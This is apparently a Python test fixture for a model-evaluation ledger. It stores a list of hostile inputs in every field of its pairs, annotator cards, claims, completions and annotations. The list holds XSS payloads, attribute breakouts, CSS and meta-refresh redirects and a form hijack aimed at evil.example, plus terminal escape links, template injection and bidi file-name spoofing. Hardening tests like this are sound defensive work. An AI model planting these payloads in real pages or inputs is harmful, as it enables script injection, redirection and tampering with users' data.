"""Texts that want to run, load, cover or break out, and a ledger that has them in every text field."""

from __future__ import annotations

from db.ledger import Ledger
from db.records import (
    Annotation,
    AnnotationStatus,
    AnnotatorCard,
    AnnotatorKind,
    Claim,
    Completion,
    Instruction,
    Item,
    Output,
    Pair,
    Question,
    Turn,
    TurnRole,
)

OWNED = "document.title='owned'"
PAYLOADS = (
    f"<script>{OWNED}</script>",
    f"<SCRIPT SRC=data:text/javascript,{OWNED}></SCRIPT>",
    f"</script><script>{OWNED}</script>",
    f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    f"<script type=module>{OWNED}</script>",
    f'<img src=x onerror="{OWNED}">',
    f'<img src=x onerror="{OWNED}"//',
    f"<image href=x onerror={OWNED}>",
    f'<svg onload="{OWNED}">',
    f"<svg><script>{OWNED}</script></svg>",
    f'<svg><a xlink:href="javascript:{OWNED}"><text y=20>x</text></a></svg>',
    f'<svg><animate onbegin="{OWNED}" attributeName=x dur=1s></svg>',
    f"<svg><foreignObject><body onload={OWNED}></foreignObject></svg>",
    f'<math href="javascript:{OWNED}">x</math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWNED}></style></mglyph></table></mtext></math>",
    f'<a href="javascript:{OWNED}">link</a>',
    f"[link](javascript:{OWNED})",
    f'<a href="java\tscript:{OWNED}" autofocus onfocus={OWNED}>x</a>',
    f'<iframe src="javascript:parent.{OWNED}"></iframe>',
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f'<object data="data:text/html,<script>parent.{OWNED}</script>"></object>',
    f'<embed src="javascript:{OWNED}">',
    f"<video><source onerror={OWNED}></video>",
    f"<audio src=x onerror={OWNED}>",
    f"<body onload={OWNED}>",
    f"<input autofocus onfocus={OWNED}>",
    f"<details open ontoggle={OWNED}>x</details>",
    f"<select autofocus onfocus={OWNED}></select>",
    f"<marquee onstart={OWNED}>x</marquee>",
    f"<form action=javascript:{OWNED}><button>go</button></form>",
    f'" onmouseover="{OWNED}" x="',
    f"' autofocus onfocus='{OWNED}' x='",
    f"--><script>{OWNED}</script><!--",
    f"]]><script>{OWNED}</script>",
    f"</title></style></textarea></noscript><script>{OWNED}</script>",
    f"<template><script>{OWNED}</script></template><noscript><p title='</noscript><img src=x>'>",
    "<style>main { display: none } @import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>over all</p>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/y>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    f"&lt;script&gt;{OWNED}&lt;/script&gt; &#60;script&#62;",
    "</p></section></main></form><form action=//evil.example><button name=verdict value=2>",
    "\x1b]8;;http://evil.example\x07\x1b[31m",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"{{{{ report }}}} ${{{OWNED}}} {{% for x in y %}} {{% include 'label.js' %}}",
    "\u202e\u2066gnp.exe\u2069 \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "e\u0301" * 2_000 + "Z\u0300\u0301\u0302\u0303\u0304" * 200,
    "x" * 100_000,
)

REPLY = "as the judge replied"


def fill(ledger: Ledger, texts: tuple[str, ...] = PAYLOADS) -> None:
    """Each text is instruction, input, output, model, judge and its reply, and another's that is unreadable.
    Every second one is all turns of a conversation in place of instruction and input.

    People and judge differ on every pair. All stand under the source `hostile`.
    """
    with ledger.writing() as writer:
        people = writer.annotators([AnnotatorCard(name, AnnotatorKind.HUMAN) for name in ("ada", "ben")])
        for number, text in enumerate(texts):
            asked = Instruction(f"{number} {text}", text)
            if number % 2:
                asked = Instruction.of_turns([Turn(role, f"{number} {text}") for role in TurnRole])
            pair, flipped = Pair.of(
                Output(asked, text, f"model {text[:40]}"), Output(asked, f"{text[:30]} hello", "m")
            )
            [pair_id] = writer.pairs([pair])
            writer.items([Item("hostile", str(number), pair, flipped)])
            judge, other = writer.annotators(
                [AnnotatorCard(f"{text[:60]} {n}", AnnotatorKind.LLM) for n in (number, -1 - number)]
            )
            claims = [
                Claim(f"{pair_id} {n}", "d", text, "{}", (Question(pair_id, 0, False),)) for n in range(2)
            ]
            replies = [reply for reply in writer.claims(claims) if reply is not None]
            writer.completions([Completion(reply, f"{text} {REPLY}") for reply in replies])
            first = 0.0 if flipped else 1.0
            facts = [Annotation(pair_id, person, 1 - first, 1 - first, False) for person in people]
            facts.append(Annotation(pair_id, judge, first, first, False, completion_id=replies[0], slot=0))
            unread = (AnnotationStatus.UNREADABLE, text[:200])
            facts.append(
                Annotation(pair_id, other, None, None, False, *unread, completion_id=replies[1], slot=0)
            )
            writer.annotations(facts)
